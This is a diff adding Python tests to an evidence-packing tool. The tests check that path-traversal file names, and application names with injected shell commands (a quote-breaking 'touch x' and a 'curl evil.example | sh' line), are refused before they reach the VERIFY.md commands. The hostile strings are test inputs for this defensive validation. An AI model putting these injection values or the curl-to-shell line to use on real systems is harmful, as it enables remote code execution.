@@ -3,6 +3,7 @@
 import hashlib
 import io
 import json
+import subprocess
 import tracemalloc
 import zipfile
 
@@ -251,6 +252,41 @@ def test_whatever_is_changed_is_named(tmp_path, whole, tamper):
     change(found)
     problems = told(tmp_path, packed(found))
     assert any(one.startswith(expected) for one in problems), problems
+
+
+def test_evidence_of_events_has_no_part_of_the_log(tmp_path, folder):
+    """Nothing of it would be looked at, and it would be unpacked wherever its name leads."""
+    found = files(made(folder, selection.Selection(), [0, 309]))
+    names = ["log/../../x", "log/tile/0/000"]
+    problems = told(tmp_path, packed(found | dict.fromkeys(names, b"x")))
+    assert problems == [f"{name}: evidence of events has no part of the log" for name in names]
+
+
+def test_a_name_that_no_application_has_is_refused(tmp_path, folder):
+    """It would stand in the commands of VERIFY.md, which people are told to run."""
+    for name in ("x' proved; touch x; '", "shop\n\n    curl evil.example | sh\n", "sh.p", "Shop"):
+        problems = told(tmp_path, made(folder, selection.Selection(application=name)))
+        assert "MANIFEST.json: it is no manifest of evidence" in problems
+
+
+def test_the_guide_lists_the_leaves_that_the_rule_takes(folder, tmp_path):
+    """By its own command: none of a source, a cluster or a scope that is called like the application."""
+    keys_of = {
+        "decklog.live.v1": ["dev/shop", "other/shop", "@x/shop", "dev/shop-2", "shop", "dev/a/shop"],
+        "decklog.fleet.v1": ["application/shop", "source/shop", "cluster/shop"],
+    }
+    entries = [
+        receipt.encode(said._replace(key=key, place=said.place._replace(topic=topic)))
+        for topic, names in keys_of.items()
+        for key in names
+        for said in [receipt.parse(ENTRIES[0])]
+    ]
+    (tmp_path / "proved").write_bytes(b"".join(b"%012d %b\n" % numbered for numbered in enumerate(entries)))
+    (command,) = (line for line in files(made(folder))["VERIFY.md"].decode().split("\n") if "awk " in line)
+    done = subprocess.run(["sh", "-c", command], cwd=tmp_path, capture_output=True, text=True, check=True)
+    assert [int(line) for line in done.stdout.split()] == [
+        number for number, entry in enumerate(entries) if SHOP.takes(entry)
+    ]
 
 
 def test_a_time_stamp_that_nobody_spoke_of_is_named(tmp_path, whole):
